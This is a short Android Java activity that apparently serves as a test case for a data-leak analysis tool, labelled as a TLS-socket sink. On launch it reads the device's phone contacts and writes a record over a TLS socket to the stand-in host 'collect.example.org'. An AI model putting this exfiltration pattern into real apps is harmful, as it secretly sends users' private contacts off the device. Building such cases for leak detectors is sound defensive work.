// To a TLS socket, through a PrintWriter.
package cases.sink_ssl_socket;

import android.app.Activity;
import android.database.Cursor;
import android.os.Bundle;
import android.provider.ContactsContract;
import android.util.Log;
import java.io.IOException;
import java.io.PrintWriter;
import javax.net.ssl.SSLSocket;
import javax.net.ssl.SSLSocketFactory;

public final class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Cursor rows = getContentResolver().query(ContactsContract.CommonDataKinds.Phone.CONTENT_URI, null, null, null, null);
        rows.moveToFirst();
        try {
            SSLSocket socket = (SSLSocket) SSLSocketFactory.getDefault().createSocket("collect.example.org", 443);
            PrintWriter writer = new PrintWriter(socket.getOutputStream());
            writer.println(rows.getString(0));
            writer.flush();
        } catch (IOException e) {
            Log.w("upload", "later");
        }
    }
}
